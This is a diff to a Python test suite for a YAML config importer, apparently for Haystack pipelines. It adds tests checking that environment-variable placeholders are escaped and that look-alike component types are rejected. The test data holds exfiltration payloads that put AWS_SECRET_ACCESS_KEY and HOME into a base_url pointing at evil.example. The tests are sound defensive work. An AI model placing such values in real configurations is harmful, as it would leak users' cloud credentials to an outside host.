@@ -131,11 +131,11 @@ def hybrid(folder: Path, home: str = "haystack.components") -> Path:
     )
 
 
-def made(folder: Path, *files: Path) -> tuple[dict[str, Any], list[str]]:
+def made(folder: Path, *files: Path, env: bool = True) -> tuple[dict[str, Any], list[str]]:
     """What the files come to, after it has passed the check."""
     text, notes = imported(files, folder)
     (folder / "ragbraid.yaml").write_text(text, "utf-8")
-    assert check_file(folder / "ragbraid.yaml") == []
+    assert check_file(folder / "ragbraid.yaml", env=env) == []
     assert all(f"# {each}\n" in text for each in notes)
     told: dict[str, Any] = yaml.safe_load(text)
     return told, notes
@@ -255,7 +255,7 @@ search:
 ask:
   - search
   - type: compose
-    generator: {type: openai, base_url: "${HOST:-http://h}/v1", model: m$$$$, api_key: "${A_KEY:-}"}
+    generator: {type: openai, base_url: "http://h/$${HOST:-x}/v1", model: m$$$$, api_key: "${A_KEY:-}"}
 """
 READ = """ragbraid: 1
 components: {index: {type: faiss, path: words}}
@@ -345,6 +345,40 @@ def test_the_environment_isnt_told_to_a_files_server(tmp_path: Path, monkeypatch
     assert [each for each in notes if "environment" in each] == [
         "It reads OPENAI_API_KEY from the environment."
     ]
+
+
+GENERATOR = "haystack_integrations.components.generators.ragbraid.chat.chat_generator.RagbraidChatGenerator"
+
+
+def test_of_our_own_components_no_variable_is_read_but_a_key(
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    spec = {
+        "type": "openai", "base_url": "http://evil.example/${AWS_SECRET_ACCESS_KEY}$$$${HOME}",
+        "model": "${AWS_SECRET_ACCESS_KEY}", "api_key": "${A_KEY}",
+    }  # fmt: skip
+    components = {"find": ("x.InMemoryBM25Retriever", {}), "llm": (GENERATOR, {"component": spec})}
+    monkeypatch.delenv("AWS_SECRET_ACCESS_KEY", raising=False)
+    monkeypatch.delenv("A_KEY", raising=False)
+    told, notes = made(tmp_path, file(tmp_path, "a.yaml", components, "find -> llm"), env=False)
+    generator = told["components"]["generator"]
+    assert generator["base_url"] == "http://evil.example/$${AWS_SECRET_ACCESS_KEY}$$$${HOME}"
+    assert generator["model"] == "$${AWS_SECRET_ACCESS_KEY}"
+    assert generator["api_key"] == "${A_KEY}"
+    assert any("`${…}` in `component` is mere text" in each for each in notes)
+    assert [each for each in notes if "environment" in each] == ["It reads A_KEY from the environment."]
+    spec["api_key"] = "${A_KEY}${AWS_SECRET_ACCESS_KEY}"
+    text, _ = imported([file(tmp_path, "a.yaml", components, "find -> llm")], tmp_path)
+    assert variables_of(text.partition("ragbraid: 1")[2]) == []
+
+
+@pytest.mark.parametrize("kind", ["evil.ragbraid.RagbraidChatGenerator", f"evil.{GENERATOR}"])
+def test_a_strangers_type_isnt_ours_by_its_name(kind: str, tmp_path: Path) -> None:
+    spec = {"type": "openai", "base_url": "http://evil.example/${AWS_SECRET_ACCESS_KEY}", "model": "m"}
+    components = {"find": ("x.InMemoryBM25Retriever", {}), "llm": (kind, {"component": spec})}
+    text, _ = imported([file(tmp_path, "a.yaml", components, "find -> llm")], tmp_path)
+    assert "evil.example" not in text
+    assert "AWS_SECRET" not in text
 
 
 def test_a_files_name_and_a_components_stay_comments(tmp_path: Path) -> None:
